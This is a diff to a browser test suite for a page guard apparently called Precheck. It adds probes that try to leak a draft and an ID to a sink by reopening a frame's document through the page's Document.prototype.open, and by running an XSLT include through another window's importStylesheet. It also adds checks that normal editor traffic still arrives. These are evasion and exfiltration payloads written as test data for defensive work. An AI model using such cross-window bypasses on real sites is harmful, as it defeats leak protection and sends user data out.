@@ -9,7 +9,11 @@
  * through a frame's getter and written through the page's `baseVal` setter: each delivered the ID with
  * Precheck installed (build a5972d0). The XHR hooks now refuse a request they have no record of
  * (lib/intercept/xhr-foreign.ts), and a `baseVal` this window's getters did not hand out is judged as an
- * href. What the same probe found held already is in README.md (the thirteenth probe).
+ * href. A fresh frame's document opened through the page's `Document.prototype.open` lost its guard's
+ * listeners (its form then left with the draft), and an XSLT processor imported through a frame's
+ * `importStylesheet` was transformed by the page's with its include unjudged: another window's document
+ * is refused unless this guard installed itself there (its listeners are put back), and a processor
+ * only its own window's methods act on. What the same probe found held already is in README.md.
  */
 import { describe, test } from 'vitest';
 import { probePage } from './probe-page.ts';
@@ -46,12 +50,28 @@ describe("an SVG href's animated string another window's getter handed out", () 
   });
 });
 
+/** Another window's document or processor handled through this window's method. */
+const OTHER_CASES: [label: string, code: string][] = [
+  ["a fresh frame's document opened by the page's Document.prototype.open (its guard's listeners erased), a form with the draft submitted there", String.raw`const w = frame(); Document.prototype.open.call(w.document); w.document.write('<form method="post" action="' + sink('p13-open-xwin-form') + '"><input name="c"><button>ok</button></form>'); w.document.close(); const f = w.document.querySelector('form'); f.elements.c.value = draft; f.requestSubmit(); await wait(1200);`],
+  ["XSLT: a stylesheet imported through a frame's importStylesheet, its include's href set after, transformed by the page", String.raw`const w = frame(); const xsl = new DOMParser().parseFromString('<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:include href="x.xsl"/><xsl:template match="/"><b>x</b></xsl:template></xsl:stylesheet>', 'application/xml'); const p = new XSLTProcessor(); w.XSLTProcessor.prototype.importStylesheet.call(p, xsl); xsl.documentElement.firstChild.setAttribute('href', sink('p13-xslt-xwin') + '?c=' + ID); try { p.transformToFragment(new DOMParser().parseFromString('<a/>', 'application/xml'), document); } catch (e) {} await wait(800);`],
+];
+
+describe("another window's document or XSLT processor through this window's method", () => {
+  test.each(OTHER_CASES)('%s: delivered without Precheck, never with it', async (_label, code) => void (await expectDeliveredOnlyWithout(page(code), 93)));
+});
+
 describe('the CMS keeps working', () => {
   test('an XHR finished, aborted and opened again by the page still arrives', async () => {
     await expectCleanArrives(page(String.raw`const x = new XMLHttpRequest(); x.open('GET', sink('p13-clean-first') + '?v=1'); x.send(); await done(x); x.abort(); x.open('POST', sink('p13-clean-reopen')); x.setRequestHeader('X-Requested-With', 'XMLHttpRequest'); x.send('a=1'); await done(x);`));
   });
   test("a frame's own XHR still arrives", async () => {
     await expectCleanArrives(page(String.raw`const w = frame(); const x = new w.XMLHttpRequest(); x.open('POST', sink('p13-clean-frame-xhr')); x.send('a=1'); await done(x);`));
+  });
+  test("a fresh frame's document opened by its own open, as editors do: a clean form posted there still arrives", async () => {
+    await expectCleanArrives(page(String.raw`const w = frame(); w.document.open(); w.document.write('<form method="post" action="' + sink('p13-clean-open-form') + '"><input name="c" value="1"><button>ok</button></form>'); w.document.close(); w.document.querySelector('form').requestSubmit(); await wait(1200);`));
+  });
+  test('an XSLT transform by the page\'s own processor (and a subclass of it) still loads its clean picture', async () => {
+    await expectCleanArrives(page(String.raw`const xsl = new DOMParser().parseFromString('<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><img src="' + sink('p13-clean-xslt') + '?v=3"/></xsl:template></xsl:stylesheet>', 'application/xml'); const p = new (class extends XSLTProcessor {})(); p.importStylesheet(xsl); document.body.append(p.transformToFragment(new DOMParser().parseFromString('<a/>', 'application/xml'), document)); await wait(900);`));
   });
   test("a clean SVG href through another window's getter still loads", async () => {
     await expectCleanArrives(page(String.raw`const w = frame(); const s = document.createElementNS('http://www.w3.org/2000/svg', 'svg'); const i = document.createElementNS('http://www.w3.org/2000/svg', 'image'); s.append(i); document.body.append(s); Object.getOwnPropertyDescriptor(w.SVGImageElement.prototype, 'href').get.call(i).baseVal = sink('p13-clean-svg') + '?v=2'; await wait(900);`));
